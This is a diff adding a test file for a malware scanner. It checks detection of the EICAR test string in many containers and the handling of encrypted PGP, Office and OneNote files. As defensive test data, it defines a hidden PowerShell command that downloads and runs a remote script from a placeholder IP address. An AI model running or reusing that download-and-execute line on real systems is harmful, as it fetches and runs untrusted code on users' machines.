@@ -1,0 +1,115 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { inflateSync } from 'node:zlib';
+import { afterAll, describe, expect, test } from 'vitest';
+import { z } from 'zod';
+import { compileRules } from '#scanner/rules/rules.ts';
+import { type Examination, examine } from '#scanner/walk/examine.ts';
+import { SCAN_LIMITS } from '#scanner/walk/limits.ts';
+import { EICAR, zip } from '#test/files.ts';
+import { PIECES } from '#test/grammar/piece-wrappers.ts';
+import { openWriters } from '#test/grammar/writers.ts';
+import { SIGNATURES_FOLDER } from '#test/signatures-folder.ts';
+import { Chance } from '#test/structure-fuzz.ts';
+
+const folder = mkdtempSync(join(tmpdir(), 'palisade-pieces-'));
+const writers = openWriters();
+afterAll(() => {
+  writers.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+const rules = await compileRules(join(SIGNATURES_FOLDER, 'rules'));
+const SCRIPT = `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"`;
+
+async function examined(content: Buffer, name = 'file', password?: string): Promise<Examination> {
+  const path = join(folder, 'upload');
+  writeFileSync(path, content);
+  return await examine(
+    { path, size: content.length, name },
+    { match: (bytes, onPlaces) => rules.match(bytes, onPlaces), limits: SCAN_LIMITS, folder: join(folder, 'unpacked'), password },
+  );
+}
+
+describe('a threat is found', () => {
+  test.each(PIECES.map((wrapper) => [wrapper.name, wrapper] as const))('%s', async (_, { wrap, takes, ending, needs = [] }) => {
+    const kind = takes === undefined || takes.includes('line') ? 'line' : takes.includes('archive') ? 'archive' : 'text';
+    const payload = { line: EICAR, archive: zip([{ name: 'eicar.com', content: EICAR }]), text: Buffer.from(SCRIPT) }[kind];
+    const wrapped = wrap({ bytes: payload, name: 'eicar.com', kind }, { writers, chance: new Chance(1) });
+    // The one that a program writes is of the comparison with other readers, which says what it lacks.
+    const content = needs.length > 0 ? await Promise.resolve(wrapped).catch(() => EICAR) : await wrapped;
+    expect((await examined(content, `file.${ending}`)).threat).not.toBeNull();
+  });
+
+  test('behind a picture of Windows, in a comment of it', async () => {
+    const record = (type: number, body: Buffer) => {
+      const head = Buffer.alloc(8);
+      head.writeUInt32LE(type, 0);
+      head.writeUInt32LE(8 + body.length, 4);
+      return Buffer.concat([head, body]);
+    };
+    const header = Buffer.alloc(80);
+    header.write(' EMF', 32, 'latin1');
+    const length = Buffer.alloc(4);
+    length.writeUInt32LE(EICAR.length);
+    const file = Buffer.concat([record(1, header), record(70, Buffer.concat([length, EICAR])), record(14, Buffer.alloc(12))]);
+    file.writeUInt32LE(file.length, 48);
+    expect((await examined(file)).threat_member).toBe('comment at 100');
+  });
+});
+
+describe('OpenPGP', () => {
+  test('is pending where it is encrypted, in letters too', async () => {
+    // A password's packet, version 4, AES-256, and what it opens.
+    const file = Buffer.concat([
+      Buffer.from('c30d040903081122334455667788ff', 'hex'),
+      Buffer.from([0xd2, 40, 1]),
+      Buffer.alloc(39, 0x5a),
+    ]);
+    expect((await examined(file)).unread).toEqual(['encrypted']);
+    const armour = `-----BEGIN PGP MESSAGE-----\n\n${file.toString('base64')}\n-----END PGP MESSAGE-----\n`;
+    expect((await examined(Buffer.from(armour))).unread).toEqual(['encrypted']);
+  });
+
+  test('is nothing where there is only a key or a signature', async () => {
+    const armour =
+      '-----BEGIN PGP SIGNATURE-----\n\niHUEARYKAB0WIQTestTestTestTestTestTestTestTestTest\n=abcd\n-----END PGP SIGNATURE-----\n';
+    expect(await examined(Buffer.from(armour))).toMatchObject({ threat: null, unread: [] });
+  });
+});
+
+describe('an Office document behind a password', () => {
+  const files = z
+    .record(z.string(), z.base64())
+    .parse(JSON.parse(readFileSync(new URL('../../../test/locked-office.json', import.meta.url), 'utf8')));
+  const fileOf = (name: string) => inflateSync(Buffer.from(files[name] ?? '', 'base64'));
+
+  test.each(['agile', 'standard'])("is opened where it is Excel's own: %s", async (name) => {
+    expect(await examined(fileOf(name))).toMatchObject({ threat: 'EICAR-Test-File', coverage: { encrypted: 0 } });
+  });
+
+  test('is opened with the password that was given, and pending without it', async () => {
+    const file = fileOf('agile, another password');
+    expect(await examined(file)).toMatchObject({ threat: null, unread: ['encrypted'], coverage: { encrypted: 1 } });
+    expect((await examined(file, 'a.xlsx', 'secret')).threat).toBe('EICAR-Test-File');
+  });
+});
+
+test('a section of OneNote that is packed for the way is pending', async () => {
+  const section = Buffer.alloc(2000);
+  section.write('e4525c7b8cd8a74daeb15378d02996d3', 'hex');
+  section.write('3fdd9a101b91f549a5d01791edc8aed8', 48, 'hex');
+  expect((await examined(section)).unread).toEqual(['unsupported']);
+});
+
+test('what no stream of an OLE file uses is examined as it is, and is no fault', async () => {
+  const { ole } = await import('#test/containers.ts');
+  const file = ole([
+    { name: 'First', content: Buffer.alloc(6000, 'a') },
+    { name: 'Second', content: zip([{ name: 'eicar.com', content: EICAR }]) },
+  ]);
+  const directory = (file.readUInt32LE(48) + 1) * 512;
+  // The second stream was deleted: its sectors are still there.
+  file[directory + 2 * 128 + 66] = 0;
+  expect((await examined(file)).threat).toBe('EICAR-Test-File');
+});
